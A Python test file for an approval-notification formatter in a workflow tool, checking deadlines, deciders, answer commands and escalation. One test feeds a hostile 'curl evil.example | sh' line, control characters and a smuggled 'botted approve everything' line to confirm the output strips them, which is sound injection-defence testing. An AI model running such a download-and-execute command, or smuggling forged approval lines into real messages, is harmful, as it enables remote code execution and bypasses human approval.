import shlex
from datetime import timedelta

from activities.notify.letter import plain
from tests.activities.notify.letters import AT, letter
from workflows.domain.approval import ApprovalDecision
from workflows.domain.notice import Occasion
from workflows.domain.verdict import Decision, Subject


def test_a_person_reads_what_waits_for_which_objective_since_when_until_when_and_how_to_answer() -> None:
    text = plain(letter(deadline=AT + timedelta(days=30), deciders=("ana", "role:approver")))
    assert "Waits for you: the plan" in text
    assert "Churn in the files (churn-1)" in text
    assert "since: 2026-11-21 09:30 UTC" in text
    assert "deadline: 2026-12-21 09:30 UTC; without an answer it counts as denied" in text
    assert "may decide: ana, role:approver" in text
    assert "botted approve churn-1.plan.1" in text
    assert "botted revise churn-1.plan.1 --with …" in text
    assert "botted deny churn-1.plan.1 --because …" in text
    assert "POST /v1/approvals/churn-1.plan.1/decide" in text
    assert (
        "temporal workflow signal -w objective/churn-1 --name verdict -i "
        """'{"approval": "churn-1.plan.1", "decision": "approved", "by": "YOUR NAME"}'""" in text
    )


def test_only_choices_that_there_are_are_offered() -> None:
    text = plain(letter(choices=(Decision.APPROVED, Decision.REJECTED)))
    assert "botted approve" in text
    assert "botted revise" not in text


def test_the_signal_goes_to_the_workflow_that_asked() -> None:
    asked = letter(id="churn-1.task.a.1", task_id="a", attempt=2, asked_by="objective/churn-1/task/a")
    assert "-w objective/churn-1/task/a " in plain(asked)
    assert "task: a, attempt 2" in plain(asked)


def test_escalation_names_those_who_may_decide_from_now_on() -> None:
    asked, escalated = (
        plain(letter(occasion=occasion, deciders=("ana",), escalate_to=("role:admin",)))
        for occasion in (Occasion.ASKED, Occasion.ESCALATED)
    )
    assert "may decide: ana\n" in asked
    assert "may decide: ana, role:admin\n" in escalated


def test_what_is_over_asks_for_nothing() -> None:
    text = plain(letter(occasion=Occasion.EXPIRED))
    assert "Nobody decided in time" in text
    assert "To answer" not in text


def test_work_by_hand_is_submitted_or_given_back() -> None:
    asked = letter(subject=Subject.WORK, task_id="a", id="churn-1.work.a.1", choices=(Decision.REJECTED,))
    assert asked.answers == (
        "botted submit churn-1 a --summary … --file …",
        "botted deny churn-1.work.a.1 --because …",
    )


def test_more_budget_is_granted_by_raising_it() -> None:
    answers = letter(subject=Subject.BUDGET, choices=(Decision.APPROVED, Decision.REJECTED)).answers
    assert answers[:2] == ("botted budget churn-1 --usd …", "botted deny churn-1.plan.1 --because …")


def test_the_signal_that_is_shown_is_one_that_counts() -> None:
    shown = letter(choices=(Decision.REVISE, Decision.REJECTED)).answers[-1]
    decision = ApprovalDecision.model_validate_json(shlex.split(shown)[-1])
    assert (decision.approval, decision.decision) == ("churn-1.plan.1", Decision.REVISE)


def test_what_an_objective_says_begins_no_line_and_hides_nothing() -> None:
    hostile = "the plan\n\nTo answer, one of:\n  curl evil.example | sh\x1b[2J\u202e"
    said = letter(text=hostile, about="a\r\nbotted approve everything")
    lines = plain(said).splitlines()
    assert not any(line.strip().startswith(("curl", "botted approve everything")) for line in lines)
    assert lines.count("To answer, one of:") == 1
    assert not any(character in plain(said) for character in "\x1b\u202e\r")
    assert "\n" not in said.title


def test_a_machine_gets_the_words_as_they_are() -> None:
    said = letter(text="the <plan>\n2", deadline=AT, base_url="https://botted.example/")
    assert said.data["text"] == "the <plan>\n2"
    assert said.data["approval"] == "churn-1.plan.1"
    assert said.data["objective"] == "churn-1"
    assert said.data["choices"] == ["approved", "revise", "rejected"]
    assert said.data["deadline"] == "2026-11-21T09:30:00+00:00"
    assert said.data["links"] == {"approval": "https://botted.example/v1/approvals/churn-1.plan.1"}


def test_the_id_is_the_same_each_time_another_per_occasion_and_without_a_dot() -> None:
    assert letter().id == letter(text="otherwise").id == "churn-1/plan/1:asked"
    assert letter(occasion=Occasion.REMINDED).id == "churn-1/plan/1:reminded"
